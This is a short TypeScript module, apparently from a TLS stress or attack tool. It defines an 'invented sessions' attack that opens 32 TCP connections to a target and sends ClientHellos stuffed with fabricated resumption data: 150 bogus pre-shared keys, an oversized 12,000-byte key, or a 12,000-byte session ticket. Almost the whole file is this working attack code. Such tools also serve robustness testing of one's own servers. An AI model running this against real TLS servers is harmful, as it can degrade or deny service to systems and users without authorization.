// Sessions to resume that were never issued: tickets of TLS 1.2 and keys of TLS 1.3, as many as a ClientHello has room for.

import type { Attack } from '../attack.ts'
import { EXTENSIONS, madeClientHello } from '../wire/client-hello.ts'
import { attackConnections } from '../wire/connections.ts'
import { keyShare } from '../wire/tls13.ts'

export const attack: Attack = {
  reference: 'invented sessions',
  does: 'offers 150 sessions that do not exist, or a ticket of 12,000 bytes, in each handshake',
  who: ['unknown'],
  answers: [],
  run: (target, signal) => {
    const { serverName, alpn, sessionTicket, preSharedKeys } = EXTENSIONS
    let n = 0
    return attackConnections(target, signal, { connections: 32, transport: 'tcp' }, (wire) => {
      const some = [serverName(target.host), alpn('h2'), keyShare()]
      const sizes = [preSharedKeys(150, 40), preSharedKeys(1, 12_000), sessionTicket(Buffer.alloc(12_000, 7))]
      const hello = [madeClientHello([...some, sizes[n++ % sizes.length] ?? Buffer.alloc(0)])]
      return { next: () => hello.shift(), receive: () => wire.close() }
    })
  },
}
